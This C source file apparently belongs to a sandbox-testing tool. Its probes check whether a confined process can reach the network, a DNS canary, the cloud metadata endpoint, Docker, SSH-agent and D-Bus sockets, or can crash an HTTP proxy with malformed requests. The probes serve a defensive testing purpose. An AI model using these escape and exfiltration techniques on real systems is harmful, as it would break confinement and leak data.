/*
 * Probes of the network: out by any protocol, in from the host, sideways to sockets of the user's
 * session.
 */
#include "probes/probes_private.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static int connect_to(const char *address, int port, int type)
{
	char number[8];
	struct addrinfo hints = {.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV, .ai_socktype = type};
	struct addrinfo *found;
	const struct timeval patience = {.tv_sec = 3};
	int fd;

	snprintf(number, sizeof(number), "%d", port);
	if (getaddrinfo(address, number, &hints, &found) != 0) {
		errno = EINVAL;
		return -1;
	}
	fd = socket(found->ai_family, type | SOCK_CLOEXEC, 0);
	if (fd >= 0) {
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
		if (connect(fd, found->ai_addr, found->ai_addrlen) != 0) {
			close(fd);
			fd = -1;
		}
	}
	freeaddrinfo(found);
	return fd;
}

/* The canary says whether it heard the token; here, whether anything answered as it does. */
static void send_token(
	const struct probe_targets *t, struct probe_result *result, const char *address, int type)
{
	char answer[64] = "";
	int fd = connect_to(address, t->port, type);
	ssize_t n;

	if (fd < 0) {
		probe_judge(result, true, "connect");
		return;
	}
	(void)!send(fd, t->token, strlen(t->token), MSG_NOSIGNAL);
	n = recv(fd, answer, sizeof(answer) - 1, 0);
	close(fd);
	if (n > 0 && strncmp(answer, "canary", 6) == 0) {
		probe_say(result, PROBE_ESCAPED, "the canary at %s answered", address);
	} else {
		probe_say(result, PROBE_HELD, "connected, but not to the canary");
	}
}

PROBE(probe_tcp_loopback)
{
	send_token(t, result, "127.0.0.1", SOCK_STREAM);
}

PROBE(probe_tcp_address)
{
	if (t->address[0] == '\0') {
		probe_say(result, PROBE_UNKNOWN, "the host has no address but loopback");
	} else {
		send_token(t, result, t->address, SOCK_STREAM);
	}
}

PROBE(probe_tcp_ipv6)
{
	send_token(t, result, "::1", SOCK_STREAM);
}

PROBE(probe_udp)
{
	send_token(t, result, t->address[0] != '\0' ? t->address : "127.0.0.1", SOCK_DGRAM);
}

PROBE(probe_icmp)
{
	/* An echo to oneself proves nothing: to an address of documentation, that no host has. */
	static const unsigned char echo[8] = {8, 0, 0xf7, 0xff};
	struct sockaddr_in to = {.sin_family = AF_INET};
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);

	(void)t;
	if (fd < 0) {
		probe_judge(result, true, "socket");
		return;
	}
	inet_pton(AF_INET, "198.51.100.1", &to.sin_addr);
	probe_judge(result, sendto(fd, echo, sizeof(echo), 0, (void *)&to, sizeof(to)) < 0, "echo");
	close(fd);
}

static void open_socket(struct probe_result *result, int family, int type, int protocol)
{
	int fd = socket(family, type | SOCK_CLOEXEC, protocol);

	probe_judge(result, fd < 0, "socket");
	if (fd >= 0) {
		close(fd);
	}
}

PROBE(probe_raw)
{
	(void)t;
	open_socket(result, AF_INET, SOCK_RAW, IPPROTO_TCP);
	if (result->outcome == PROBE_HELD) {
		open_socket(result, AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
	}
}

PROBE(probe_packet)
{
	(void)t;
	open_socket(result, AF_PACKET, SOCK_RAW, 0);
	if (result->outcome == PROBE_HELD) {
		open_socket(result, AF_PACKET, SOCK_DGRAM, 0);
	}
}

PROBE(probe_vsock)
{
	int pair[2];

	(void)t;
	open_socket(result, AF_VSOCK, SOCK_STREAM, 0);
	if (result->outcome == PROBE_HELD) {
		/* A pair of them there is not, but who may ask has made one to hear it. */
		probe_judge(result,
			socketpair(AF_VSOCK, SOCK_STREAM, 0, pair) != 0 && errno == EAFNOSUPPORT,
			"socketpair");
	}
}

PROBE(probe_netlink)
{
	static const int protocols[] = {NETLINK_NETFILTER, NETLINK_SOCK_DIAG,
		NETLINK_KOBJECT_UEVENT, NETLINK_GENERIC, NETLINK_AUDIT, NETLINK_XFRM,
		NETLINK_CONNECTOR};

	(void)t;
	for (size_t i = 0; i < sizeof(protocols) / sizeof(protocols[0]); i++) {
		open_socket(result, AF_NETLINK, SOCK_RAW, protocols[i]);
		if (result->outcome == PROBE_ESCAPED) {
			return;
		}
	}
}

PROBE(probe_route)
{
	struct {
		struct nlmsghdr head;
		struct ifinfomsg info;
	} ask = {{sizeof(ask), RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK, 1, 0},
		{.ifi_index = 1, .ifi_flags = IFF_UP, .ifi_change = IFF_UP}};
	struct {
		struct nlmsghdr head;
		struct nlmsgerr error;
	} answer = {0};
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);

	(void)t;
	if (fd < 0 || send(fd, &ask, sizeof(ask), 0) < 0 ||
		recv(fd, &answer, sizeof(answer), 0) < 0) {
		probe_judge(result, true, "netlink");
	} else {
		errno = -answer.error.error;
		probe_judge(result, answer.error.error != 0, "changing a link");
	}
	if (fd >= 0) {
		close(fd);
	}
}

PROBE(probe_dns)
{
	char name[256];
	struct addrinfo *found = NULL;

	/* The canary name server is the one that the run was told to ask. */
	snprintf(name, sizeof(name), "%.48s.exfiltrated.example", t->token);
	if (getaddrinfo(name, NULL, NULL, &found) == 0) {
		probe_say(result, PROBE_ESCAPED, "%s has an address", name);
		freeaddrinfo(found);
	} else {
		probe_say(result, PROBE_HELD, "no such name");
	}
}

PROBE(probe_metadata)
{
	static const char ask[] = "GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n"
				  "Connection: close\r\n\r\n";
	char answer[64] = "";
	int fd = connect_to("169.254.169.254", 80, SOCK_STREAM);

	(void)t;
	if (fd < 0) {
		probe_judge(result, true, "connect");
		return;
	}
	(void)!send(fd, ask, sizeof(ask) - 1, MSG_NOSIGNAL);
	if (recv(fd, answer, sizeof(answer) - 1, 0) <= 0 || strstr(answer, " 403 ") != NULL) {
		probe_say(result, PROBE_HELD, "refused by the gateway");
	} else {
		probe_say(result, PROBE_ESCAPED, "answered %.40s", answer);
	}
	close(fd);
}

PROBE(probe_listen)
{
	struct sockaddr_in6 here = {
		.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)t->listen_port)};
	struct pollfd polled = {socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0), POLLIN, 0};
	const int on = 1;

	setsockopt(polled.fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (polled.fd < 0 || bind(polled.fd, (void *)&here, sizeof(here)) != 0 ||
		listen(polled.fd, 8) != 0) {
		probe_judge(result, true, "listen");
	} else if (poll(&polled, 1, 700) == 1) {
		probe_say(result, PROBE_ESCAPED, "somebody knocked");
	} else {
		probe_say(result, PROBE_HELD, "nobody came");
	}
	close(polled.fd);
}

static int connect_unix(const char *path, size_t len)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || len > sizeof(to.sun_path)) {
		return fd;
	}
	memcpy(to.sun_path, path, len);
	if (connect(fd, (void *)&to, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len)) !=
		0) {
		int error = errno;

		close(fd);
		errno = error;
		return -1;
	}
	return fd;
}

PROBE(probe_abstract)
{
	char name[108] = "";
	int fd;

	snprintf(name + 1, sizeof(name) - 1, "%s", t->abstract);
	fd = connect_unix(name, strlen(t->abstract) + 1);
	probe_judge(result, fd < 0, "connect");
	if (fd >= 0) {
		(void)!send(fd, t->token, strlen(t->token), MSG_NOSIGNAL);
		close(fd);
	}
}

PROBE(probe_agents)
{
	char bus[64], wayland[80];
	const char *ssh = getenv("SSH_AUTH_SOCK");
	const char *const paths[] = {"/run/dbus/system_bus_socket", "/var/run/docker.sock",
		"/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock",
		"/tmp/.X11-unix/X0", "/tmp/.X11-unix/X1", "/run/systemd/private",
		"/run/systemd/journal/stdout", bus, wayland, ssh != NULL ? ssh : bus};

	(void)t;
	snprintf(bus, sizeof(bus), "/run/user/%d/bus", (int)getuid());
	snprintf(wayland, sizeof(wayland), "/run/user/%d/wayland-0", (int)getuid());
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
		int fd = connect_unix(paths[i], strlen(paths[i]) + 1);

		if (fd >= 0) {
			probe_say(result, PROBE_ESCAPED, "connected to %s", paths[i]);
			close(fd);
			return;
		}
	}
	probe_say(result, PROBE_HELD, "none is there");
}

PROBE(probe_door)
{
	static const char *const first[] = {"\x16\x03\x01\xff\xff\x01", "\x05\xff", "\x04\x01",
		"GET http://\xff/ HTTP/1.1\r\n\r\n", "CONNECT :0 HTTP/1.1\r\n\r\n",
		"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n",
		"\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"};
	const char *proxy = getenv("http_proxy"), *colon = proxy ? strrchr(proxy, ':') : NULL;
	int port = colon != NULL ? atoi(colon + 1) : 0, fd;
	static char noise[65536];
	char answer[64] = "";

	(void)t;
	if (port == 0) {
		probe_say(result, PROBE_UNKNOWN, "http_proxy names no door");
		return;
	}
	for (size_t i = 0; i < sizeof(noise); i++) {
		noise[i] = (char)(i * 2654435761u >> 13);
	}
	for (int round = 0; round < 64; round++) {
		const char *begin = first[round % 8];

		fd = connect_to("127.0.0.1", port, SOCK_STREAM);
		if (fd < 0) {
			continue;
		}
		(void)!send(fd, begin, strlen(begin), MSG_NOSIGNAL);
		(void)!send(fd, noise + round * 16, 1 + (size_t)round * 900,
			MSG_NOSIGNAL | MSG_DONTWAIT);
		close(fd);
	}
	/* It still stands, and still says no. */
	fd = connect_to("127.0.0.1", port, SOCK_STREAM);
	(void)!send(fd, "GET http://nobody.example/ HTTP/1.0\r\n\r\n", 39, MSG_NOSIGNAL);
	if (fd >= 0 && recv(fd, answer, sizeof(answer) - 1, 0) > 0 && strstr(answer, " 403 ")) {
		probe_say(result, PROBE_HELD, "it answers as before");
	} else {
		probe_say(result, PROBE_ESCAPED, "the door no longer answers");
	}
	if (fd >= 0) {
		close(fd);
	}
}
